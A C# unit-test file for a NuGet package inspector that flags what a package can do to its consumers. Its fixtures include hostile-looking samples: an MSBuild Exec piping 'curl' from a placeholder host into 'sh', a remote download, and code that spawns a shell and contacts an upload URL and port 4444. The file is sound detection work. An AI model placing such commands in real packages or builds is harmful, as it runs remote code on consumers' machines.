using SecureBuild.Core.Inspection;

namespace SecureBuild.Inspection.Tests;

/// <summary>What a package can do to its consumers, read from its files (packages assembled as zips).</summary>
public sealed class CapabilityTests
{
    private static InspectionReport Inspect(TempDirectory temp, byte[] package, string name = "p.nupkg") =>
        PackageInspector.Inspect(new InspectionOptions { Input = temp.Write(name, package) });

    [Test]
    public void A_buildTransitive_targets_that_runs_a_command_is_named_with_the_command()
    {
        using var temp = new TempDirectory();
        var report = Inspect(temp, Packages.Zip(
            ("P.nuspec", Packages.Nuspec("P", "1.0.0")),
            ("buildTransitive/P.targets", Packages.Targets("<Exec Command=\"curl -s https://example.invalid/x | sh\" />"))));

        var exec = report.Findings.Single(f => f.Code == InspectionCodes.BuildExec);
        Assert.That(exec.Path, Is.EqualTo("buildTransitive/P.targets"));
        Assert.That(exec.Subject, Is.EqualTo("curl -s https://example.invalid/x | sh"));
        Assert.That(exec.Severity, Is.EqualTo(FindingSeverity.Warning));
        Assert.That(report.ToText(), Does.Contain("warning SB4310 buildTransitive/P.targets: runs a command at the consumer's build: curl -s https://example.invalid/x | sh"));
    }

    [Test]
    public void Inline_tasks_task_assemblies_downloads_and_install_scripts_are_named()
    {
        using var temp = new TempDirectory();
        var report = Inspect(temp, Packages.Zip(
            ("build/P.props", Packages.Text("""
                <Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
                  <UsingTask TaskName="Sneaky" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\Microsoft.Build.Tasks.Core.dll">
                    <Task><Code Type="Fragment" Language="cs">System.IO.File.Delete("x");</Code></Task>
                  </UsingTask>
                  <UsingTask TaskName="P.Tasks.Pack" AssemblyFile="$(MSBuildThisFileDirectory)../tools/P.Tasks.dll" />
                </Project>
                """)),
            ("buildMultiTargeting/P.targets", Packages.Targets("<DownloadFile SourceUrl=\"https://example.invalid/tool.zip\" DestinationFolder=\"$(TEMP)\" />")),
            ("tools/install.ps1", Packages.Text("Write-Host hi"))));

        Assert.That(report.Findings.Single(f => f.Code == InspectionCodes.InlineTask).Subject, Is.EqualTo("Sneaky"));
        Assert.That(report.Findings.Single(f => f.Code == InspectionCodes.TaskAssembly).Subject, Is.EqualTo("P.Tasks.Pack from $(MSBuildThisFileDirectory)../tools/P.Tasks.dll"));
        Assert.That(report.Findings.Single(f => f.Code == InspectionCodes.BuildDownload).Subject, Is.EqualTo("https://example.invalid/tool.zip"));
        Assert.That(report.Findings.Single(f => f.Code == InspectionCodes.InstallScript).Path, Is.EqualTo("tools/install.ps1"));
        Assert.That(report.Findings.Where(f => f.Code == InspectionCodes.BuildFile).Select(f => f.Path),
            Is.EquivalentTo(new[] { "build/P.props", "buildMultiTargeting/P.targets" }));
    }

    [Test]
    public void A_native_library_per_rid_and_the_p_invoke_that_calls_it_are_named()
    {
        using var temp = new TempDirectory();
        var managed = Packages.Assembly("P", """
            using System.Runtime.InteropServices;
            public static class Native
            {
                [DllImport("libsecret")] public static extern int secret_get(int x);
                [DllImport("kernel32")] public static extern int GetTickCount();
            }
            """);
        var report = Inspect(temp, Packages.Zip(
            ("lib/net8.0/P.dll", managed),
            ("runtimes/linux-x64/native/libsecret.so", Packages.Elf())));

        Assert.That(report.Findings.Where(f => f.Code == InspectionCodes.PInvoke).Select(f => f.Subject), Is.EqualTo(new[] { "kernel32", "libsecret" }));
        var native = report.Findings.Single(f => f.Code == InspectionCodes.NativeBinary);
        Assert.That(native.Path, Is.EqualTo("runtimes/linux-x64/native/libsecret.so"));
        Assert.That(native.Message, Does.Contain("ELF").And.Contain("linux-x64"));
        Assert.That(report.Failed, Is.False);
    }

    [Test]
    public void Process_start_network_emit_addresses_analyzers_and_non_determinism_are_read_from_the_assembly()
    {
        using var temp = new TempDirectory();
        var managed = Packages.Assembly("P", """
            public static class Doer
            {
                public static void Run()
                {
                    System.Diagnostics.Process.Start("sh", "-c id");
                    using var client = new System.Net.Http.HttpClient();
                    client.GetStringAsync("https://collect.example.invalid/upload").Wait();
                    var socket = new System.Net.Sockets.Socket(System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);
                    socket.Connect("203.0.113.7", 4444);
                    var m = new System.Reflection.Emit.DynamicMethod("m", typeof(void), null);
                    System.Console.WriteLine("4.0.0.0");
                }
            }
            """, deterministic: false);
        var report = Inspect(temp, Packages.Zip(("analyzers/dotnet/cs/P.dll", managed)));

        string[] Subjects(string code) => report.Findings.Where(f => f.Code == code).Select(f => f.Subject).ToArray();
        Assert.That(Subjects(InspectionCodes.ProcessStart), Is.EqualTo(new[] { "System.Diagnostics.Process.Start" }));
        Assert.That(Subjects(InspectionCodes.Network), Is.EquivalentTo(new[] { "System.Net.Http.HttpClient", "System.Net.Sockets.Socket", "System.Net.Sockets.SocketType", "System.Net.Sockets.ProtocolType" }));
        Assert.That(Subjects(InspectionCodes.ReflectionEmit), Is.EqualTo(new[] { "System.Reflection.Emit" }));
        Assert.That(Subjects(InspectionCodes.EmbeddedAddress), Is.EquivalentTo(new[] { "203.0.113.7", "https://collect.example.invalid/upload" }), "a version is not an address");
        Assert.That(Subjects(InspectionCodes.Analyzer), Is.EqualTo(new[] { "P.dll" }));
        Assert.That(Subjects(InspectionCodes.NotDeterministic), Has.Length.EqualTo(1));
        Assert.That(Subjects(InspectionCodes.NotStrongNamed), Has.Length.EqualTo(1));
    }

    [Test]
    public void A_deterministic_assembly_is_not_reported_as_non_deterministic()
    {
        using var temp = new TempDirectory();
        var report = Inspect(temp, Packages.Zip(("lib/net8.0/P.dll", Packages.Assembly("P", "public class C {}", deterministic: true))));

        Assert.That(report.Findings.Select(f => f.Code), Does.Not.Contain(InspectionCodes.NotDeterministic));
    }

    [TestCase("/home/alice/src/P/obj/Release/net8.0/P.pdb", true)]
    [TestCase(@"C:\agent\_work\1\s\P\obj\Release\P.pdb", true)]
    [TestCase(@"\\build01\share\P\obj\P.pdb", true)]
    [TestCase("/_/src/P/obj/Release/net8.0/P.pdb", false)]
    [TestCase("/_1/P/obj/Release/P.pdb", false)]
    [TestCase("P.pdb", false)]
    public void An_assembly_whose_PDB_path_names_the_build_machine_s_folder_is_reported_with_the_path(string pdbPath, bool reported)
    {
        using var temp = new TempDirectory();
        var report = Inspect(temp, Packages.Zip(("lib/net8.0/P.dll", Packages.Assembly("P", "public class C {}", deterministic: true, pdbPath: pdbPath))));

        var findings = report.Findings.Where(f => f.Code == InspectionCodes.MachinePath).ToList();
        Assert.That(findings, Has.Count.EqualTo(reported ? 1 : 0));
        if (reported)
        {
            Assert.That(findings[0].Message, Does.Contain("P.pdb").And.Not.Contain("alice").And.Not.Contain("agent").And.Not.Contain("build01"), "names the file, not the machine's folder");
        }

        Assert.That(report.Findings.Select(f => f.Code), Does.Not.Contain(InspectionCodes.NotDeterministic), "deterministic either way: the path is another matter");
        Assert.That(report.Failed, Is.False, "a build-quality note, allowed by the built-in policy");
    }

    [Test]
    public void An_obfuscator_marker_is_named_and_a_look_alike_in_another_namespace_is_not()
    {
        using var temp = new TempDirectory();
        var marked = Packages.Assembly("P", "[assembly: ConfusedBy] public class ConfusedByAttribute : System.Attribute {}");
        var lookAlike = Packages.Assembly("Q", "namespace Q { public class PoweredByAttribute : System.Attribute {} }");
        var report = Inspect(temp, Packages.Zip(("lib/net8.0/P.dll", marked), ("lib/net8.0/Q.dll", lookAlike)));

        Assert.That(report.Findings.Where(f => f.Code == InspectionCodes.Obfuscated).Select(f => f.Path + " " + f.Subject), Is.EqualTo(new[] { "lib/net8.0/P.dll ConfusedByAttribute" }));
    }

    [Test]
    public void A_nuspec_dependency_is_listed()
    {
        using var temp = new TempDirectory();
        var report = Inspect(temp, Packages.Zip(("P.nuspec", Packages.Nuspec("P", "1.0.0", "Left.Pad", "Other"))));

        Assert.That(report.Findings.Where(f => f.Code == InspectionCodes.Dependency).Select(f => f.Subject), Is.EquivalentTo(new[] { "left.pad", "other" }));
    }
}
